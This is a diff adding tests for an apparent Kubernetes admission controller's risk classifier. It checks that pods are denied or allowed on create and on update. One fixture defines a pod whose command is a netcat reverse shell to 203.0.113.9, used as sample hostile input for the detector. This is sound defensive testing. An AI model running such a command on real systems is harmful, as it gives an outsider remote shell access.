@@ -1,6 +1,7 @@
 """The five steps together: recorded reviews, subresources, updates, and what cannot be understood."""
 
 import json
+import re
 from typing import Any
 
 import pytest
@@ -141,6 +142,45 @@ class TestUpdates:
         content = review(privileged_pod(), old=privileged_pod())
 
         assert denied_paths(content, policy)[0] == "spec.containers[0].securityContext.privileged"
+
+
+class TestRisk:
+    POLICY = config.parse(
+        "{apiVersion: podgate.dev/v1alpha1, kind: GatePolicy,"
+        " spec: {profile: pss-baseline, classifier: {warnAt: 0.5, denyAt: 0.9}}}"
+    )
+
+    def answer(self, new: dict[str, Any], old: dict[str, Any] | None = None) -> dict[str, Any]:
+        response: dict[str, Any] = json.loads(admit(body(review(new, old=old)), self.POLICY).body)["response"]
+        return response
+
+    def shell(self, *, team: str = "shop") -> dict[str, Any]:
+        """No rule of the Pod Security Standards has anything to say of it."""
+        found = pod(image="alpine", command=["sh", "-c", "nc 203.0.113.9 4444 -e /bin/sh"])
+        return {**found, "metadata": {**found["metadata"], "labels": {"team": team}}}
+
+    def test_it_denies_where_no_rule_does(self) -> None:
+        response = self.answer(self.shell())
+
+        assert response["allowed"] is False
+        assert re.fullmatch(r"risk: spec looks dangerous \(risk 0\.\d\d\): .+", response["status"]["message"])
+        assert "rules" not in response["auditAnnotations"]
+        assert re.fullmatch(r"0\.9\d\d", response["auditAnnotations"]["risk"])
+        assert response["auditAnnotations"]["model"] == self.POLICY.model
+
+    def test_an_update_that_does_not_raise_it_is_recorded(self) -> None:
+        response = self.answer(self.shell(team="other"), old=self.shell())
+
+        assert response["allowed"] is True
+        assert "warnings" not in response
+        assert response["auditAnnotations"]["decision"] == "allow"
+        assert response["auditAnnotations"]["risk"] == self.answer(self.shell())["auditAnnotations"]["risk"]
+
+    def test_an_update_that_raises_it_is_denied(self) -> None:
+        assert self.answer(self.shell(), old=pod())["allowed"] is False
+
+    def test_an_update_that_lowers_it_is_not(self) -> None:
+        assert self.answer(pod(), old=self.shell())["allowed"] is True
 
 
 class TestUnreadable:
